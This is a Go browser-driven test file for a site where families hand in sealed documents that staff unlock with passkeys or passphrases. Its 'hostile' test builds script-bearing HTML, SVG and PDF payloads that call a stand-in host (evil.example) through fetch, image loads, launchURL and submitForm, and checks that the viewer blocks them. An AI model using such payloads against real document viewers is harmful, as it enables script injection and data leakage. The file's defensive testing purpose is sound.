package journey_test

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"codeberg.org/go-pdf/fpdf"
	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/webauthn"
	"github.com/chromedp/chromedp"

	"charte/charter"
	"charte/envelope"
	"charte/people"
	"charte/plan"
	"charte/policy"
	"charte/rights"
	"charte/seal"
	"charte/sites"
	"charte/store"
	"charte/web"
	"charte/work"
)

// relay is an example site, mostly that of the association for respite, in this very process: the test hands in what no page would let anybody hand in.
type relay struct {
	*testing.T
	site    *store.Site
	engine  *store.Store
	clock   *work.Clock
	stop    func() // the server is gone
	address string
	dir     string
	family  people.Session // or whoever else hands documents in
	log     bytes.Buffer

	mu   sync.Mutex
	asks []string                                               // paths that were asked for, with their method
	line func(http.Handler, http.ResponseWriter, *http.Request) // to the server; nil: nothing happens on it
}

func openRelay(t *testing.T, change ...func(*web.Config)) *relay {
	t.Helper()
	return openExample(t, "respite", change...)
}

// openExample opens an example site in the same way.
func openExample(t *testing.T, name string, change ...func(*web.Config)) *relay {
	t.Helper()
	h := &relay{T: t, dir: t.TempDir(), clock: work.NewClock()}
	s, err := store.Open(t.Context(), store.Options{Dir: h.dir})
	h.fine(err)
	t.Cleanup(func() {
		if err := s.Close(); err != nil {
			t.Error(err)
		}
	})
	c, err := charter.Parse(name+".yaml", sites.Charter(name))
	h.fine(err)
	p := plan.Compile(c)
	at := httptest.NewUnstartedServer(nil)
	_, port, _ := net.SplitHostPort(at.Listener.Addr().String())
	h.address = "http://" + name + ".localhost:" + port
	h.engine = s
	h.site, err = s.Site(p, h.address)
	h.fine(err)
	h.fine(h.site.Publish(t.Context(), policy.Published(p, time.Now()), time.Now()))
	conf := web.Config{Sites: []*store.Site{h.site}, Now: h.clock.Now, Log: slog.New(slog.NewTextHandler(&h.log, &slog.HandlerOptions{Level: slog.LevelWarn}))}
	for _, f := range change {
		f(&conf)
	}
	server := web.New(conf)
	t.Cleanup(func() {
		if h.log.Len() > 0 {
			t.Errorf("the server says: %s", h.log.String())
		}
	})
	at.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h.mu.Lock()
		h.asks = append(h.asks, r.Method+" "+r.URL.Path)
		line := h.line
		h.mu.Unlock()
		if line == nil {
			line = http.Handler.ServeHTTP
		}
		line(server, w, r)
	})
	at.Start()
	h.stop = at.Close
	t.Cleanup(h.stop)
	return h
}

func (h *relay) fine(err error) {
	h.Helper()
	if err != nil {
		h.Fatal(err)
	}
}

// forget starts the list of what is asked for anew.
func (h *relay) forget() {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.asks = nil
}

func (h *relay) asked() []string {
	h.mu.Lock()
	defer h.mu.Unlock()
	return slices.Clone(h.asks)
}

// opens the link of the letter that somebody received, and chooses a password behind it.
func (h *relay) confirmed(email string) string {
	h.Helper()
	ids, err := h.site.Unsent(h.Context(), time.Now().Add(time.Hour), 100)
	h.fine(err)
	for _, id := range ids {
		o, err := h.site.Letter(h.Context(), id)
		h.fine(err)
		if _, link, ok := strings.Cut(o.Body.Reveal("test"), "/confirm?t="); ok && o.To.Reveal("test") == email {
			token, _, _ := strings.Cut(link, "\n")
			token, err = url.QueryUnescape(strings.TrimSpace(token))
			h.fine(err)
			session, err := h.site.SetPassword(h.Context(), token, people.TicketConfirm, hashedOnce(), people.Device{}, time.Now())
			h.fine(err)
			return session
		}
	}
	h.Fatalf("no letter to %s", email)
	return ""
}

var hashedOnce = sync.OnceValue(func() string { return people.HashPassword("quatre chevaux gris galopent") })

// colleague is somebody of the team, at a browser that has a passkey.
func (h *relay) colleague(b context.Context, name, role, lang string) *visitor {
	h.Helper()
	email := strings.ToLower(name) + "@example.org"
	_, _, err := h.site.Engage(h.Context(), store.Engagement{Login: seal.NewText(email), Name: seal.NewText(name), Lang: lang, Role: role}, time.Now())
	h.fine(err)
	v := visit(h.T, b, served{site: h.address, name: h.site.Name()}, lang)
	call(v, webauthn.Enable, webauthn.EnableParams{})
	call(v, webauthn.AddVirtualAuthenticator, webauthn.AddVirtualAuthenticatorParams{Options: &webauthn.VirtualAuthenticatorOptions{
		Protocol: webauthn.AuthenticatorProtocolCtap2, Ctap2version: webauthn.Ctap2versionCtap21, Transport: webauthn.AuthenticatorTransportInternal,
		HasResidentKey: true, HasUserVerification: true, IsUserVerified: true, AutomaticPresenceSimulation: true, HasPrf: true}})
	call(v, network.SetCookie, network.SetCookieParams{Name: "charte_session", Value: h.confirmed(email), URL: h.address, HTTPOnly: new(true)})
	v.is(v.open("/my-data/security/passkey"), 200, "/my-data/security/passkey")
	v.fill("name", "laptop")
	v.is(v.follow("#passkey .button"), 200, "/my-data/security/passkey")
	return v
}

// joins opens an account that hands documents in.
func (h *relay) joins() {
	h.Helper()
	form := url.Values{"email": {"noa@example.org"}, "phone": {"0612345678"}, "child_age": {"8"}}
	for _, f := range h.site.Plan.Charter.Data {
		if h.site.Plan.Holds("family", f.Name) && !form.Has(f.Name) {
			form.Set(f.Name, "Noa")
		}
	}
	h.family = h.arrives("family", "noa@example.org", form)
}

// arrives opens an account behind a letter.
func (h *relay) arrives(kind, email string, form url.Values) people.Session {
	h.Helper()
	joined, problems := people.Join(h.site.Plan, kind, form, "fr", seal.NewID(), time.Now())
	if len(problems) > 0 {
		h.Fatalf("%v", problems)
	}
	h.fine(h.site.Join(h.Context(), joined))
	who, err := h.site.Session(h.Context(), h.confirmed(email), time.Now())
	h.fine(err)
	return who
}

// hands in a document, sealed by package envelope; spoil may change what arrives.
func (h *relay) hands(document, name, kind string, plain []byte, spoil func(line string, chunks []byte) (string, []byte)) seal.ID {
	h.Helper()
	ticket, err := h.site.BeginDeposit(h.Context(), h.family, document, true, time.Now())
	h.fine(err)
	var out bytes.Buffer
	h.fine(envelope.Seal(&out, bytes.NewReader(plain), envelope.Manifest{Name: name, Type: kind, For: ticket.For, Length: int64(len(plain))}, ticket.Readers...))
	r := bufio.NewReader(&out)
	line, err := r.ReadString('\n')
	h.fine(err)
	chunks, err := io.ReadAll(r)
	h.fine(err)
	line = strings.TrimSuffix(line, "\n")
	if spoil != nil {
		line, chunks = spoil(line, chunks)
	}
	n := 0
	for part := range slices.Chunk(chunks, envelope.ChunkSize+envelope.Overhead) {
		h.fine(h.site.PutChunk(h.Context(), h.family, ticket.ID, n, part, time.Now()))
		n++
	}
	h.fine(h.site.FinishDeposit(h.Context(), h.family, ticket.ID, line, n, time.Now()))
	return ticket.ID
}

const disability = "disability_certificate"

func picture(t *testing.T) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, 640, 400))
	for x := range 640 {
		for y := range 400 {
			img.Set(x, y, color.RGBA{uint8(x / 3), uint8(y / 2), 120, 255})
		}
	}
	var out bytes.Buffer
	if err := png.Encode(&out, img); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// paperOf is a PDF of two pages, with a font that every reader knows, a link, and a script that would run as it opens.
func paperOf(t *testing.T, script string) []byte {
	t.Helper()
	p := fpdf.New("P", "mm", "A4", "")
	p.SetJavascript(script)
	for n := range 2 {
		p.AddPage()
		p.SetFont("Helvetica", "", 28)
		p.WriteLinkString(14, fmt.Sprintf("Attestation, page %d", n+1), "https://evil.example/link")
	}
	var out bytes.Buffer
	if err := p.Output(&out); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// soon waits until a page, which is not loaded again, comes to what a condition says.
func (v *visitor) soon(condition string) {
	v.Helper()
	ask[chromedp.Void](v, `new Promise(come => { const look = () => `+condition+` ? come() : setTimeout(look, 10); look(); })`, chromedp.EvalAwaitPromise)
}

// wide looks at a page on a desktop too.
func (v *visitor) wide() {
	v.Helper()
	v.seen(looks[1])
	v.accessible(looks[1])
	v.seen(looks[0])
}

// settled waits until the page says something about a document, and returns it.
func (v *visitor) settled() (state, wrong string) {
	v.Helper()
	const said = `["view-error", "unlock-error"].map(id => document.getElementById(id).innerText).join("")`
	v.soon(`document.querySelector("#unlock").getAttribute("aria-busy") === null && (` + said + ` || !document.getElementById("view-about").hidden)`)
	return ask[string](v, `document.getElementById("view-state").innerText`), ask[string](v, said)
}

// reaches a document, by its own address, and opens it.
func (v *visitor) reaches(id seal.ID) {
	v.Helper()
	v.is(v.open("/desk/documents/"+id.String()), 200, "/desk/documents/")
	v.is(v.submit(), 200, "/desk/documents/")
}

// drawn counts the images in the viewer, from outside of it.
func (v *visitor) drawn() int {
	v.Helper()
	if ask[bool](v, `document.getElementById("viewer").hidden`) {
		return 0
	}
	return int(ask[float64](v, `parseFloat(document.getElementById("viewer").style.height || 0)`))
}

// TestValidation: keys are made and confirmed in two browsers, documents are opened there and nowhere else, and decided about once. Two that
// a family hands in from a phone are opened by a passkey, and destroyed on the day after, which is proved without the site.
//
// Law: GDPR 32(1)(a), GDPR 32(4), GDPR 5(1)(e), GDPR 5(2)
func TestValidation(t *testing.T) {
	t.Parallel()
	h := openRelay(t)
	b := chromium(t)
	h.joins()
	boss, ada, bob := h.colleague(b, "Chef", people.Manager, "fr"), h.colleague(b, "Ada", "validator", "fr"), h.colleague(b, "Bob", "validator", "en")

	// A key protected by a passkey, confirmed by whoever gives the roles, who types what they were told.
	ada.makes("", "")
	ada.photograph("keys-made")
	boss.confirms(ada.text(".card .lead"), false)
	boss.confirms(ada.text(".card .lead"), true)
	family := h.deposits(b)
	h.validates(ada)
	before := h.hands(disability, "avant Inès.png", "image/png", picture(t), nil)

	// Another one, by a passphrase, confirmed by the first.
	bob.makes("short", "short")
	bob.reads("#make-error", bob.T("keysay.short"))
	bob.makes(secretWords, secretWords+"!")
	bob.reads("#make-error", bob.T("keysay.differ"))
	bob.makes(secretWords, secretWords)
	ada.confirms(bob.text(".card .lead"), true)

	h.opened(ada, bob, before)
	h.spoilt(ada)
	h.hostile(ada)
	h.removed(boss, bob)
	h.spare(boss, ada, bob)
	for _, v := range []*visitor{boss, ada, bob} {
		v.behaved()
	}
	bob.withoutScripts()
	left := h.hands(disability, "a.png", "image/png", picture(t), nil)
	for _, page := range []string{"/desk/keys", "/desk/spare", "/desk/documents/" + left.String()} {
		bob.is(bob.open(page), 200, page)
		if strings.HasSuffix(page, left.String()) {
			bob.is(bob.submit(), 200, page)
		}
		bob.reads("main", bob.T("keys.without"))
	}
	h.destroys(family)
}

const secretWords = "cheval pile agrafe correcte"

// makes a key: with a passphrase, or without one by the passkey.
func (v *visitor) makes(phrase, again string) {
	v.Helper()
	if v.count("#make") == 0 || v.text("#make-error") == "" {
		v.is(v.open("/desk/keys"), 200, "/desk/keys")
	}
	v.soon(`!document.getElementById("make").hidden`)
	if phrase == "" {
		v.is(v.follow("#make-passkey"), 200, "/desk/keys")
		v.reads(".flash", v.T("done.key-made"))
		return
	}
	v.fill("new", phrase)
	v.fill("again", again)
	if phrase != again || phrase == "short" {
		v.do(v.click("#make .button:not([type])"))
		v.soon(`document.getElementById("make-error").innerText`)
		return
	}
	v.is(v.follow("#make .button:not([type])"), 200, "/desk/keys")
	v.reads(".flash", v.T("done.key-made"))
}

// confirms the one key that waits, by the groups that the page asks for.
func (v *visitor) confirms(fingerprint string, right bool) {
	v.Helper()
	v.is(v.open("/desk/keys"), 200, "/desk/keys")
	var groups []string
	all := strings.Fields(fingerprint)
	for _, c := range v.text(`form[action$="/confirm"] label`) {
		if c >= '1' && c <= '8' {
			groups = append(groups, all[c-'1'])
		}
	}
	if len(groups) != people.GroupsAsked {
		v.Fatalf("the page asks for %q", v.text(`form[action$="/confirm"] label`))
	}
	field := strings.TrimPrefix(v.attribute(`form[action$="/confirm"] input:not([type=hidden])`, "id"), "f-")
	if !right {
		v.fill(field, "00000 11111 22222")
		v.is(v.follow(`form[action$="/confirm"] button`), 422, "/desk/keys")
		v.reads(".summary", v.T("problem.groups"))
		return
	}
	v.fill(field, strings.Join(groups, " "))
	v.is(v.follow(`form[action$="/confirm"] button`), 200, "/desk/keys")
	v.reads(".flash", v.T("done.key-confirmed"))
}

// opened: what was sealed before a key was confirmed opens for it once somebody sealed it anew; and who comes second is told.
func (h *relay) opened(ada, bob *visitor, before seal.ID) {
	h.Helper()
	bob.reaches(before)
	bob.fill("phrase", "something else entirely")
	bob.do(bob.click("#unlock-send"))
	_, wrong := bob.settled()
	if wrong != bob.T("keysay.passphrase") || bob.drawn() != 0 {
		h.Errorf("a wrong passphrase: %q", wrong)
	}
	ask[chromedp.Void](bob, `document.getElementById("unlock-error").textContent = ""`)
	bob.fill("phrase", secretWords)
	bob.do(bob.click("#unlock-send"))
	if _, wrong = bob.settled(); wrong != bob.T("keysay.reader") {
		h.Errorf("sealed for somebody else: %q", wrong)
	}
	ada.is(ada.open("/desk/keys"), 200, "/desk/keys")
	ada.do(ada.click("#unlock-passkey"))
	ada.soon(`document.getElementById("reseal-stop").hidden && document.getElementById("reseal-state").innerText`)
	ada.reads("#reseal-state", strings.TrimSuffix(ada.T("keysay.done"), "%d"))
	ada.inspect("keys", true)
	ada.wide()
	bob.keys = true
	bob.reaches(before)
	bob.fill("phrase", secretWords)
	bob.tabTill("#unlock-send")
	bob.do(enter)
	if _, wrong = bob.settled(); wrong != "" || bob.drawn() == 0 {
		h.Errorf("sealed anew: %q", wrong)
	}
	bob.reads("#view-about", "avant Inès.png")
	bob.photograph("document-image")
	bob.inspect("document", true)
	bob.wide()

	ada.is(ada.open("/desk/documents"), 200, "/desk/documents")
	ada.inspect("documents", true)
	ada.wide()
	ada.is(ada.follow(`main .items a`), 200, "/desk/documents/")
	ada.is(ada.submit(), 200, "/desk/documents/")
	ada.is(ada.follow(`form[action$="/decision"] .button`), 422, "/desk/documents/")
	ada.reads(".summary", ada.T("problem.check-outcome"))
	ask[chromedp.Void](ada, `document.querySelector("input[value=again]").checked = document.querySelector("input[value=unreadable]").checked = true`)
	bob.tabTill(`input[value=accept]`)
	bob.press(" ")
	bob.is(bob.follow(`form[action$="/decision"] .button`), 200, "/desk/documents")
	bob.reads(".flash", bob.T("done.document-accepted"))
	bob.keys = false
	ada.is(ada.follow(`form[action$="/decision"] .button`), 200, "/desk/documents/")
	role, _ := people.Role(h.site.Plan, "validator")
	ada.reads("main", ada.T("check.decided-validated", role.Label.In("fr")))
	ada.inspect("decided", true)
}

// spoilt: what is not what was sealed has its reason, and nothing of it is shown.
func (h *relay) spoilt(v *visitor) {
	h.Helper()
	flip := func(at int) func(string, []byte) (string, []byte) {
		return func(line string, chunks []byte) (string, []byte) { chunks[at] ^= 1; return line, chunks }
	}
	long := append(picture(h.T), make([]byte, 2*envelope.ChunkSize)...)
	step := envelope.ChunkSize + envelope.Overhead
	for what, one := range map[string]struct {
		plain []byte
		spoil func(string, []byte) (string, []byte)
		says  string
	}{
		"one flipped bit": {picture(h.T), flip(100), "tampered"},
		"cut off":         {long, func(line string, c []byte) (string, []byte) { return line, c[:2*step] }, "tampered"},
		"in another order": {long, func(line string, c []byte) (string, []byte) {
			return line, slices.Concat(c[step:2*step], c[:step], c[2*step:])
		}, "tampered"},
		"the line of another deposit": {picture(h.T), h.foreign(), "place"},
	} {
		id := h.hands(disability, "a.png", "image/png", one.plain, one.spoil)
		v.reaches(id)
		v.do(v.click("#unlock-passkey"))
		if state, wrong := v.settled(); wrong != v.T("keysay."+one.says) || v.drawn() != 0 || state != "" {
			h.Errorf("%s: %q %q", what, wrong, state)
		}
		h.fine(h.site.WithdrawDeposit(h.Context(), h.family, id, time.Now()))
	}
}

// foreign swaps a document for one that was sealed for another place.
func (h *relay) foreign() func(string, []byte) (string, []byte) {
	return func(string, []byte) (string, []byte) {
		readers, err := h.site.ReadersOf(h.Context(), disability)
		h.fine(err)
		plain := picture(h.T)
		var out bytes.Buffer
		h.fine(envelope.Seal(&out, bytes.NewReader(plain), envelope.Manifest{Name: "a", Type: "image/png", For: "respite/elsewhere", Length: int64(len(plain))}, readers...))
		line, chunks, _ := strings.Cut(out.String(), "\n")
		return line, []byte(chunks)
	}
}

// hostile: a document runs nothing, asks for nothing, and what is no picture and no PDF is not shown.
func (h *relay) hostile(v *visitor) {
	h.Helper()
	evil := `fetch("https://evil.example/run"); new Image().src = "https://evil.example/run"; parent.document.title = "run"`
	page := "<html><body><script>" + evil + "</script><img src=https://evil.example/run></body></html>"
	drawing := `<svg xmlns="http://www.w3.org/2000/svg" onload='` + evil + `'><image href="https://evil.example/run"/></svg>`
	for what, one := range map[string]struct {
		plain []byte
		wrong string
	}{
		"a PDF with a script and links":     {paperOf(h.T, `app.launchURL("https://evil.example/run"); this.submitForm("https://evil.example/run");`), ""},
		"a page that calls itself a PDF":    {[]byte(page), "unshown"},
		"a drawing that calls itself a PDF": {[]byte(drawing), "unshown"},
		"a PDF that is none":                {[]byte("%PDF-1.7\n" + page), "unreadable"},
		"nothing":                           {nil, "empty"},
		"a picture that breaks off":         {picture(h.T)[:90], "unreadable"},
	} {
		id := h.hands(disability, "attestation.pdf", "application/pdf", one.plain, nil)
		v.reaches(id)
		h.forget()
		v.do(v.click("#unlock-passkey"))
		state, wrong := v.settled()
		if one.wrong == "" && (wrong != "" || v.drawn() < 500) {
			h.Errorf("%s: %q %q, %d", what, state, wrong, v.drawn())
		}
		if one.wrong == "" {
			v.photograph("document-pdf")
			v.inspect("document-pdf", false)
		}
		if one.wrong != "" && (wrong != v.T("keysay."+one.wrong) || v.drawn() != 0) {
			h.Errorf("%s: %q", what, wrong)
		}
		for _, asked := range h.asked() {
			if !strings.HasPrefix(asked, "GET /desk/documents/"+id.String()+"/chunks/") && !strings.HasPrefix(asked, "GET /viewer") {
				h.Errorf("%s: asked for %s", what, asked)
			}
		}
		if title := ask[string](v, `document.title`); title == "run" {
			h.Errorf("%s: its script ran", what)
		}
		v.behaved()
		h.fine(h.site.WithdrawDeposit(h.Context(), h.family, id, time.Now()))
	}
}

// removed: a key that is taken away opens nothing from the next request on, even in a page that is open.
func (h *relay) removed(boss, v *visitor) {
	h.Helper()
	id := h.hands(disability, "a.png", "image/png", picture(h.T), nil)
	v.reaches(id)
	keys, err := h.site.ReaderKeys(h.Context())
	h.fine(err)
	mine := keys[len(keys)-1].Public.ID()
	boss.is(boss.open("/desk/keys/"+mine+"/remove"), 200, "/desk/keys/")
	boss.is(boss.submit(), 200, "/desk/keys")
	boss.reads(".flash", boss.T("done.key-removed"))
	v.fill("phrase", secretWords)
	v.do(v.click("#unlock-send"))
	if _, wrong := v.settled(); wrong != v.T("keysay.closed") || v.drawn() != 0 {
		h.Errorf("after the key was removed: %q", wrong)
	}
	v.mu.Lock()
	v.offences = slices.DeleteFunc(v.offences, func(o string) bool { return strings.Contains(o, "/chunks/0") && strings.Contains(o, "403") })
	v.mu.Unlock()
	v.is(v.open("/desk/documents/"+id.String()), 200, "/desk/documents/")
	v.reads("main", v.T("check.keyless"))
}

// spare: those who keep the shares of the spare key prove that they open it, and open it once whoever could read a document has gone. Whose
// document it is reads so.
func (h *relay) spare(boss, ada, bob *visitor) {
	h.Helper()
	ada.is(ada.open("/desk/spare"), 200, "/desk/spare")
	ada.do(ada.click("#spare-make"))
	ada.soon(`document.getElementById("part").dataset.made`)
	shares := ada.texts("#sheets code")
	if len(shares) != 3 {
		h.Fatalf("%d sheets", len(shares))
	}
	ada.inspect("spare-sheets", true)
	h.forget()
	ada.is(ada.follow("#spare-make"), 200, "/desk/spare")
	ada.reads(".flash", ada.T("done.spare-made"))
	if n := len(h.receivers()); n != 1 {
		h.Errorf("%d readers before the rehearsal, want 1", n)
	}
	ada.is(ada.follow(`main .items a`), 200, "/desk/spare/")
	ada.shares(shares[0], shares[0])
	ada.do(ada.click(`#join button[value=rehearse]`))
	ada.soon(`document.getElementById("join-error").innerText`)
	ada.reads("#join-error", ada.T("keysay.shares"))
	ada.shares(shares[0][1:], shares[2])
	ada.do(ada.click(`#join button[value=rehearse]`))
	ada.soon(`document.getElementById("join-error").innerText === ` + strconv.Quote(ada.T("keysay.share")))
	ada.inspect("spare-join", true)
	ada.shares(strings.ToLower(shares[0]), shares[2])
	ada.is(ada.follow(`#join button[value=rehearse]`), 200, "/desk/spare")
	ada.reads(".flash", ada.T("done.spare-rehearsed"))
	if n := len(h.receivers()); n != 2 {
		h.Errorf("%d readers after the rehearsal, want 2", n)
	}

	id := h.hands(disability, "seule.png", "image/png", picture(h.T), nil)
	bob.makes(secretWords, secretWords)
	ada.confirms(bob.text(".card .lead"), true)
	keys, err := h.site.ReaderKeys(h.Context())
	h.fine(err)
	for _, k := range keys {
		if k.Reads && !k.Confirmed.IsZero() && k.Public.ID() != keys[len(keys)-1].Public.ID() {
			boss.is(boss.open("/desk/keys/"+k.Public.ID()+"/remove"), 200, "/desk/keys/")
			boss.is(boss.submit(), 200, "/desk/keys")
		}
	}
	bob.is(bob.open("/desk/spare"), 200, "/desk/spare")
	bob.is(bob.follow(`main .items a`), 200, "/desk/spare/")
	bob.shares(shares[1], shares[2])
	bob.do(bob.click(`#join button[value=open]`))
	bob.soon(`document.getElementById("reseal-stop").hidden && document.getElementById("reseal-state").innerText || document.getElementById("join-error").innerText`)
	bob.reads("#reseal-state", strings.Replace(bob.T("keysay.done"), "%d", "1", 1))
	bob.reaches(id)
	bob.fill("phrase", secretWords)
	bob.do(bob.click("#unlock-send"))
	if _, wrong := bob.settled(); wrong != "" || bob.drawn() == 0 {
		h.Errorf("sealed anew by the spare key: %q", wrong)
	}
	events, _, err := h.site.History(h.Context(), h.family.Subject, 0, 50)
	h.fine(err)
	if !slices.ContainsFunc(events, func(e rights.Event) bool {
		return e.Fact.Kind == people.FactRewrappedSpare && e.Fact.Detail["role"] == "validator"
	}) {
		h.Error("whose document it is does not read that the spare key was opened")
	}
}

// receivers are the keys for which a document is sealed now.
func (h *relay) receivers() []envelope.PublicKey {
	h.Helper()
	readers, err := h.site.ReadersOf(h.Context(), disability)
	h.fine(err)
	return readers
}

// shares types them, each into its own field.
func (v *visitor) shares(typed ...string) {
	v.Helper()
	v.soon(`!document.getElementById("join").hidden`)
	for i, share := range typed {
		v.fill("part-"+strconv.Itoa(i+1), share)
	}
}
